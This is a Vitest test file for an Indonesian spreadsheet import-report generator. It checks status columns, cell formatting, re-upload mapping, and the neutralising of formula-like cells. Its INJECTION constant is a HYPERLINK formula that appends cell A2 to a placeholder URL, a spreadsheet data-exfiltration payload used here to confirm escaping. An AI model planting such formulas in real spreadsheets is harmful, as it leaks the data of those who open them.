import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { readImportFile, type ImportSheet } from '../../../functions/documents/import-file';
import { importReportWorkbook, type ReportRowResult } from '../../../functions/documents/import-report';
import { importTemplate } from '../../../functions/documents/import-template';
import { IMPORT_COLUMNS, mapHeaders, readRow } from '../../../functions/domain/imports';

const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const asXlsx = { fileName: 'laporan.xlsx', contentType: XLSX_TYPE };
const NIK = '7373011003851234';
const INJECTION = '=HYPERLINK("http://contoh.invalid/?d="&A2,"klik")';
const cases = IMPORT_COLUMNS.cases;
/** The upload's 1-based column of a key; the report's is two further right. */
const columnOf = (key: string) => cases.findIndex((c) => c.key === key) + 1;
const inReport = (key: string) => columnOf(key) + 2;
const ERROR_FILL = 'FFFFC7CE';
const WARNING_FILL = 'FFFFEB9C';

/**
 * The template filled as an office would: row 2 right, row 3 blank, row 4 a NIK typed as a number and a
 * birth date as a date cell, row 5 a name that is a formula's text, an address that is a live formula
 * and a phone that is a hyperlink.
 */
async function upload(): Promise<ImportSheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load((await importTemplate('cases', 'id')) as unknown as ArrayBuffer);
  const data = workbook.getWorksheet('Data')!;
  for (const row of [2, 4, 5]) cases.forEach((c, i) => (data.getCell(row, i + 1).value = c.example));
  data.getCell(4, columnOf('client.nik')).value = Number(NIK);
  data.getCell(4, columnOf('client.birthDate')).value = new Date(Date.UTC(1985, 2, 10));
  data.getCell(5, columnOf('client.fullName')).value = INJECTION;
  data.getCell(5, columnOf('client.address')).value = { formula: 'B2&" "&C2', result: 'x' };
  data.getCell(5, columnOf('client.phone')).value = { text: '081234567890', hyperlink: 'https://x.invalid' };
  return readImportFile(new Uint8Array(await workbook.xlsx.writeBuffer()), asXlsx);
}

const RESULTS = new Map<number, ReportRowResult>([
  [2, { row: 2, status: 'ready', errors: [], warnings: [] }],
  [4, { row: 4, status: 'error', errors: ['NIK: tersimpan sebagai angka.', 'Tanggal: …'], warnings: [] }],
  [5, { row: 5, status: 'warning', errors: [], warnings: ['Nama lengkap: diawali ='] }],
]);

async function open(bytes: Uint8Array) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  return workbook;
}

const fillOf = (cell: ExcelJS.Cell) => (cell.fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb;

describe('importReportWorkbook', () => {
  let sheet: ImportSheet;
  let report: Uint8Array;
  let data: ExcelJS.Worksheet;
  let workbook: ExcelJS.Workbook;

  beforeAll(async () => {
    sheet = await upload();
    report = await importReportWorkbook(sheet, RESULTS, 'id', ['Kolom wajib "Jam" tidak ada.']);
    workbook = await open(report);
    data = workbook.getWorksheet('Data')!;
  });

  it('puts the outcome and its messages in front of each row, on the row’s own Excel number', () => {
    expect(data.getCell('A1').value).toBe('Hasil impor');
    expect(data.getCell('B1').value).toBe('Keterangan');
    expect(data.getCell(1, inReport('client.nik')).value).toBe('NIK *');
    expect(data.getCell('A2').value).toBe('Siap');
    expect(data.getCell('A4').value).toBe('Salah');
    expect(data.getCell('B4').value).toBe('NIK: tersimpan sebagai angka.\nTanggal: …');
    expect(data.getCell('A5').value).toBe('Peringatan');
    // Row 3 was blank in the upload, and is blank here: row N of the report is row N of the file.
    expect(data.findRow(3)?.hasValues ?? false).toBe(false);
    expect(fillOf(data.getCell('A4'))).toBe(ERROR_FILL);
    expect(fillOf(data.getCell('B4'))).toBe(ERROR_FILL);
    expect(fillOf(data.getCell('A5'))).toBe(WARNING_FILL);
    expect(fillOf(data.getCell('A2'))).toBeUndefined();
  });

  it('keeps each cell’s type: a text NIK as Text, a numeric NIK as a number, a date as a day-first date', () => {
    const nik = data.getCell(2, inReport('client.nik'));
    expect(nik.value).toBe(NIK);
    expect(nik.numFmt).toBe('@');
    const numeric = data.getCell(4, inReport('client.nik'));
    expect(numeric.value).toBe(Number(NIK));
    expect(numeric.numFmt).toBe('0');
    const birth = data.getCell(4, inReport('client.birthDate'));
    expect(birth.value).toEqual(new Date(Date.UTC(1985, 2, 10)));
    expect(birth.numFmt).toBe('dd/mm/yyyy');
    expect(data.getCell(2, inReport('client.birthDate')).value).toBe('10/03/1985');
  });

  it('runs nothing: formula-like text neutralised, a formula as its text, a hyperlink as its text only', () => {
    expect(data.getCell(5, inReport('client.fullName')).value).toBe(`'${INJECTION}`);
    const formula = data.getCell(5, inReport('client.address'));
    expect(formula.type).toBe(ExcelJS.ValueType.String);
    expect(formula.value).toBe(`'=B2&" "&C2`);
    const phone = data.getCell(5, inReport('client.phone'));
    expect(phone.value).toBe('081234567890');
    expect(phone.hyperlink).toBeUndefined();
  });

  it('has a bold, frozen, filtered header and lists the file’s problems on their own sheet', () => {
    expect(data.getRow(1).font?.bold).toBe(true);
    expect(data.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const lastColumn = data.getColumn(cases.length + 2).letter;
    expect(data.autoFilter).toBe(`A1:${lastColumn}5`);
    const problems = workbook.getWorksheet('Masalah berkas')!;
    expect(problems.getCell('A1').value).toBe('Masalah');
    expect(problems.getCell('A2').value).toBe('Kolom wajib "Jam" tidak ada.');
  });

  it('re-uploads: the result columns are ignored and the office’s columns map and read as before', async () => {
    const again = await readImportFile(report, asXlsx);
    expect(again.rows.map((r) => r.row)).toEqual([2, 4, 5]);
    const mapping = mapHeaders('cases', again.header);
    expect(mapping.problems).toEqual([]);
    expect(mapping.keys).toEqual([undefined, undefined, ...cases.map((c) => c.key)]);
    expect(mapping.ignored.map((i) => i.header)).toEqual(['Hasil impor', 'Keterangan']);

    const context = { today: '2026-12-07' } as const;
    const before = mapHeaders('cases', sheet.header).keys;
    for (const [i, row] of again.rows.entries()) {
      const original = sheet.rows[i]!;
      const reread = readRow('cases', mapping.keys, row.cells, row.row, context);
      const first = readRow('cases', before, original.cells, original.row, context);
      // Same values and the same errors, bar the formula cell: its text now, a formula before.
      if (row.row !== 5) expect(reread.values).toEqual(first.values);
      expect(reread.errors.map((e) => e.key)).toEqual(
        first.errors.map((e) => e.key).filter((k) => k !== 'client.address'),
      );
    }
    const name = readRow('cases', mapping.keys, again.rows[2]!.cells, 5, context).values['client.fullName'];
    expect(name).toBe(INJECTION); // the apostrophe the report added is taken off again
  });

  it('speaks English in the English mode, and writes an unknown status as it is', async () => {
    const results = new Map<number, ReportRowResult>([
      [2, { row: 2, status: 'existing', errors: [], warnings: [] }],
      [4, { row: 4, status: 'error', errors: ['NIK'], warnings: [] }],
      [5, { row: 5, status: 'queued', errors: [], warnings: [] }],
    ]);
    const english = await open(await importReportWorkbook(sheet, results, 'en', ['Missing column.']));
    const sheetEn = english.getWorksheet('Data')!;
    expect([1, 2, 4, 5].map((r) => sheetEn.getCell(r, 1).value)).toEqual([
      'Import result',
      'Already exists',
      'Error',
      'queued',
    ]);
    expect(sheetEn.getCell('B1').value).toBe('Details');
    expect(english.getWorksheet('File problems')).toBeDefined();
    const without = await open(await importReportWorkbook(sheet, results, 'en'));
    expect(without.worksheets).toHaveLength(1);
  });
});

describe('importReportWorkbook, from a sheet made by hand', () => {
  it('writes rows given out of order in order, and a time of day as a time', async () => {
    const sheet: ImportSheet = {
      format: 'csv',
      header: ['Jam', '+Catatan'],
      rows: [
        { row: 5, cells: [new Date(Date.UTC(1899, 11, 30, 14, 30)), '@SUM(1)'] },
        { row: 3, cells: [true, '-1'] },
      ],
      date1904: false,
    };
    const out = await open(await importReportWorkbook(sheet, new Map(), 'id'));
    const data = out.getWorksheet('Data')!;
    expect(data.getCell('D1').value).toBe("'+Catatan");
    expect(data.getCell('C3').value).toBe(true);
    expect(data.getCell('D3').value).toBe("'-1");
    expect(data.getCell('C5').numFmt).toBe('hh:mm');
    expect(data.getCell('D5').value).toBe("'@SUM(1)");
    expect(data.getCell('A5').value).toBeNull();
  });
});
